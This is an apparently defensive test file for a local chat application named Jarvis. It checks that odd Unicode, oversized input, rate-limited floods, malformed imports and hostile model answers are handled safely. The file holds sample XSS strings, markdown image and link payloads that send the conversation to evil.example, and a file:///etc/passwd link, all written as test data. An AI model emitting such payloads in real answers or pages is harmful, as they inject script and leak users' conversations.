/** Odd words, hostile answers and imports, and files that are no models: nothing is lost, nothing runs, nothing is fetched. */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { newId } from '../src-main/domain/id.ts';
import type { Client } from '../src-preload/connect.ts';
import { maxImportLength } from '../src-preload/contract.ts';
import { findChromium, launchBrowser } from './browser.ts';
import { clientOf, linkOf } from './core-client.ts';
import { filesUnder } from './files-under.ts';
import { ScriptedServer } from './fixtures/model-servers/scripted-server.ts';
import { type JarvisProgram, removeDataDir, startJarvis } from './jarvis-program.ts';
import { assetPath, haveAssets } from './test-assets.ts';
import { eventually, WindowPage } from './window-page.ts';

const chromium = findChromium();
const folder = mkdtempSync(join(tmpdir(), 'jarvis-bad-input-'));
const hostile = [
  '<img src="https://evil.example/pixel.png" onerror="globalThis.pwned = 1">',
  '<script>globalThis.pwned = 2</script><iframe src="https://evil.example/frame"></iframe>',
  '<style>@import url("https://evil.example/style.css");</style>',
  '[cliquez](javascript:globalThis.pwned=3) [donnée](data:text/html,<script>globalThis.pwned=4</script>)',
  '![secret](https://evil.example/image?q=la-conversation-entiere)',
  '[la suite](https://evil.example/link?q=la-conversation-entiere)',
  '[local](file:///etc/passwd) <https://evil.example/auto>',
].join('\n\n');

describe.runIf(chromium !== undefined)('bad input', () => {
  let browser: Browser;
  let jarvis: JarvisProgram;
  let model: ScriptedServer;
  let client: Client;
  let window: WindowPage;

  beforeAll(async () => {
    model = await ScriptedServer.start({ protocol: 'ollama', answer: () => ({ text: 'Bien reçu.' }) });
    [browser, jarvis] = await Promise.all([
      launchBrowser(chromium ?? ''),
      startJarvis({ env: { OLLAMA_HOST: model.address } }),
    ]);
    window = await WindowPage.open(browser, jarvis.link);
    client = await clientOf(jarvis.dataDir);
    await eventually(async () => expect(await window.modelButton.innerText()).toContain('storyteller'));
  }, 60_000);
  afterAll(async () => {
    client?.close();
    await browser?.close();
    await jarvis?.stop();
    await model?.close();
    rmSync(folder, { recursive: true });
    if (jarvis !== undefined) await removeDataDir(jarvis.dataDir);
  });

  const tell = (text: string, conversationId: string, more: { edits?: string } = {}) =>
    client.call('turn.ask', { turnId: newId(), conversationId, text, origin: 'typed', ...more });
  const open = (id: string) => client.call('conversation.open', { id, limit: 500 });

  test('odd words are kept as they are, and shown', async () => {
    for (const empty of ['', '   ', '\n\n']) {
      await window.send(empty);
      expect(await window.page.getByTestId('send').isDisabled()).toBe(true);
    }
    expect(await window.questions.count()).toBe(0);
    const odd = [
      '🦊🦊🏳️‍🌈👩‍👩‍👧',
      'مرحبا بالعالم، كيف حالك؟',
      'Ca\u200bché\u2060 ici\ufeff',
      'a\u202Eevil\u202Cz',
    ];
    await window.composer.fill(odd[1] ?? '');
    expect(await window.composer.evaluate(field => getComputedStyle(field).direction)).toBe('rtl');
    for (const text of odd) {
      expect(await window.ask(text)).toBe('Bien reçu.');
      expect(await window.questions.last().locator('.said').textContent()).toBe(text);
    }
    expect(
      await window.questions
        .nth(1)
        .locator('.said')
        .evaluate(said => getComputedStyle(said).direction),
    ).toBe('rtl');
    expect(window.faults).toEqual([]);
  });

  test.each([
    ['only zero-width', '\u200b\u2060\ufeff', 'input.empty'],
    ['empty', ' \n ', 'input.empty'],
    ['1 MB', 'x'.repeat(1024 * 1024), 'input.too-long'],
    ['NUL', 'avant\u0000après', undefined],
    ['lone surrogates', 'avant\ud800après\udc00', undefined],
  ] as const)('%s from another client: accepted whole or refused by name', async (_, text, refusal) => {
    const conversationId = newId();
    if (refusal !== undefined) {
      await expect(tell(text, conversationId)).rejects.toThrow(refusal);
      await expect(open(conversationId)).rejects.toThrow('input.not-found');
      return;
    }
    await tell(text, conversationId);
    await eventually(async () => expect((await open(conversationId)).messages).toHaveLength(2));
    expect((await open(conversationId)).messages[0]?.text).toBe(text);
    const [hit] = (await client.call('conversation.search', { query: 'avant', limit: 50 })).hits.filter(
      found => found.conversationId === conversationId,
    );
    expect(hit).toBeDefined();
  });

  test('1 MB in the field is kept there, with the reason why it is not sent', async () => {
    await window.newConversation();
    const long = 'mot '.repeat(256 * 1024);
    await window.composer.fill(long);
    await window.page.getByText('Trop long').waitFor();
    await window.composer.press('Enter');
    expect(await window.page.getByTestId('send').isDisabled()).toBe(true);
    expect((await window.composer.inputValue()).length).toBe(long.length);
    await window.composer.fill('');
  });

  test('100 messages in a second: each is answered in order or refused by name', async () => {
    const conversationId = newId();
    const texts = Array.from({ length: 100 }, (_, i) => `Combien font ${i} plus 1 ?`);
    const told = await Promise.allSettled(texts.map(text => tell(text, conversationId)));
    const accepted = texts.filter((_, i) => told[i]?.status === 'fulfilled');
    for (const one of told) if (one.status === 'rejected') expect(String(one.reason)).toContain('input.rate');
    expect(accepted.length).toBeGreaterThan(10);
    const done = async () => {
      const { messages, queued, running } = await open(conversationId);
      expect([queued, running]).toEqual([[], undefined]);
      return messages;
    };
    await eventually(async () => void (await done()));
    const messages = await done();
    expect(messages.filter(({ role }) => role === 'user').map(({ text }) => text)).toEqual(accepted);
    expect(messages.filter(({ role }) => role === 'assistant')).toHaveLength(accepted.length);
    await window.openConversation('Combien font 0 plus 1');
    await eventually(async () =>
      expect(await window.said()).toContain(`${texts.indexOf(accepted.at(-1) ?? '') + 1}`),
    );
  });

  test('two windows that edit one conversation see the same in the end', async () => {
    const second = await WindowPage.open(browser, await linkOf(jarvis.dataDir));
    model.answer = () => ({ text: 'Lentement, mais sûrement.', tokensPerSecond: 20 });
    await window.newConversation();
    await window.ask('Une question partagée');
    await second.openConversation('question partagée');
    await second.lastAnswer.waitFor();
    await Promise.all([
      window.page.getByTestId('edit').first().click(),
      second.page.getByTestId('edit').first().click(),
    ]);
    await window.page.getByTestId('edit-field').fill('Modifiée à gauche');
    await second.page.getByTestId('edit-field').fill('Modifiée à droite');
    await window.page.getByTestId('edit-field').press('Enter');
    await second.page.getByText('Modifiée à gauche').waitFor();
    // The message that is being edited left the branch; the words are still there when one goes back to it.
    await second.button('Version précédente').first().click();
    expect(await second.page.getByTestId('edit-field').inputValue()).toBe('Modifiée à droite');
    await second.page.getByTestId('edit-field').press('Enter');
    const shown = async (one: WindowPage) => ({
      questions: await one.questions.locator('.said').allInnerTexts(),
      versions: await one.questions.getByTestId('branch-walker').allInnerTexts(),
      answers: await Promise.all((await one.answers.all()).map(answer => one.said(answer))),
    });
    await eventually(async () => {
      const [left, right] = [await shown(window), await shown(second)];
      expect(left).toEqual(right);
      expect(left.questions).toHaveLength(1);
      expect(left.versions.join()).toContain('/3');
      expect(left.answers).toEqual(['Lentement, mais sûrement.']);
    });
    await second.conversationMenu('question partagée', 'Supprimer');
    await eventually(async () => expect(await window.conversation('question partagée').count()).toBe(0));
    expect(second.faults).toEqual([]);
    await second.close();
    model.answer = () => ({ text: 'Bien reçu.' });
  });

  /** Nothing of what the shown conversation holds may run or be fetched. */
  async function expectHarmless(): Promise<void> {
    const column = window.page.getByTestId('messages');
    expect(await column.locator('img, script, iframe, style, object, embed').count()).toBe(0);
    expect(await window.page.evaluate(() => Reflect.get(globalThis, 'pwned'))).toBeUndefined();
    const links = await column
      .locator('a')
      .evaluateAll(all =>
        all.map(one => [
          (one as HTMLAnchorElement).protocol,
          one.getAttribute('rel'),
          one.getAttribute('target'),
        ]),
      );
    expect(links.length).toBeGreaterThan(2);
    for (const link of links) expect(link).toEqual(['https:', 'noopener noreferrer', '_blank']);
    expect(await column.locator('[onerror], [onclick], [style*=url]').count()).toBe(0);
    expect(window.faults).toEqual([]);
  }

  test('a hostile answer is words; its links lead nowhere before they are clicked', async () => {
    model.answer = () => ({ text: hostile });
    await window.newConversation();
    await window.ask('Donne-moi des liens');
    await window.page.getByRole('link', { name: 'la suite' }).hover();
    await expectHarmless();
    const asked: string[] = [];
    await window.page.context().route('https://evil.example/**', route => {
      asked.push(`${route.request().url()} ${route.request().headers().referer ?? 'no referer'}`);
      return route.fulfill({ body: 'elsewhere' });
    });
    const [popup] = await Promise.all([
      window.page.waitForEvent('popup'),
      window.page.getByRole('link', { name: 'la suite' }).click(),
    ]);
    await popup.waitForLoadState();
    expect(await popup.evaluate(() => globalThis.opener)).toBeNull();
    await popup.close();
    expect(asked).toEqual(['https://evil.example/link?q=la-conversation-entiere no referer']);
    model.answer = () => ({ text: 'Bien reçu.' });
  });

  const bring = (file: string | { name: string; mimeType: string; buffer: Buffer }) =>
    window.page.getByTestId('import-file').setInputFiles(file);
  const bringText = (name: string, text: string) =>
    bring({ name, mimeType: 'text/plain', buffer: Buffer.from(text) });

  test('a hostile import is words too; a file that is no export changes nothing', async () => {
    const { text } = await client.call('conversation.export', { ids: 'all', format: 'json' });
    const exported = JSON.parse(text);
    const [first] = exported.conversations.filter(({ messages }: { messages: { text: string }[] }) =>
      messages.some(one => one.text === hostile),
    );
    first.conversation.title = '<img src=x onerror=globalThis.pwned=5> Import';
    await bringText('hostile.json', JSON.stringify({ ...exported, conversations: [first] }));
    await window.toasts.filter({ hasText: 'Importé : 1 conversation' }).waitFor();
    await window.openConversation('onerror');
    await window.page.getByRole('link', { name: 'la suite' }).waitFor();
    await expectHarmless();

    const count = await window.page.getByTestId('conversation-item').count();
    const refused = window.toasts.filter({ hasText: 'n’est pas un export de Jarvis' });
    for (const content of [
      '',
      '<html></html>',
      '[]',
      '{"format":"other"}',
      text.slice(0, -40),
      '\u0000\u0001',
    ]) {
      await bringText('bad.json', content);
      await refused.first().waitFor();
      await refused.first().getByRole('button', { name: 'Fermer' }).click();
      await eventually(async () => expect(await refused.count()).toBe(0));
    }
    const huge = join(folder, 'huge.json');
    writeFileSync(huge, Buffer.alloc(maxImportLength + 1, 'a'));
    await bring(huge);
    await window.toasts.filter({ hasText: 'trop grand' }).waitFor();
    expect(await window.page.getByTestId('conversation-item').count()).toBe(count);
  });

  test('files that are no models are refused by name, chosen or dropped, and nothing of them is kept; a whole one is', async () => {
    const choose = (name: string, buffer: Buffer) =>
      window.page
        .getByTestId('model-file')
        .setInputFiles({ name, mimeType: 'application/octet-stream', buffer });
    const refused = (text: string) => window.toasts.filter({ hasText: text }).first().waitFor();
    await choose('texte.gguf', Buffer.from('Once upon a time'.repeat(100)));
    await refused('n’est pas un modèle GGUF : texte.gguf');
    await choose('vide.gguf', Buffer.alloc(0));
    await refused('vide.gguf');
    if (haveAssets('models/llm/stories260K.gguf')) {
      const whole = readFileSync(assetPath('models/llm/stories260K.gguf'));
      await choose('coupé.gguf', whole.subarray(0, whole.length >> 1));
      await refused('Le fichier GGUF est incomplet : coupé.gguf');
      await choose('entier.gguf', whole);
      await refused('entier.gguf a été ajouté');
    }
    await window.page.evaluate(() => {
      const data = new DataTransfer();
      data.items.add(new File(['GIF89a'], 'photo.gif', { type: 'image/gif' }));
      dispatchEvent(new DragEvent('drop', { dataTransfer: data, cancelable: true }));
    });
    await refused('photo.gif');
    await eventually(async () => expect(await window.page.getByTestId('upload').count()).toBe(0));
    const kept = filesUnder(jarvis.dataDir);
    expect(kept.filter(name => /gguf|photo|\.part|\.tmp/.test(name) && !/entier\.gguf$/.test(name))).toEqual(
      [],
    );
    expect(await window.modelButton.innerText()).toContain('storyteller');
  });
});
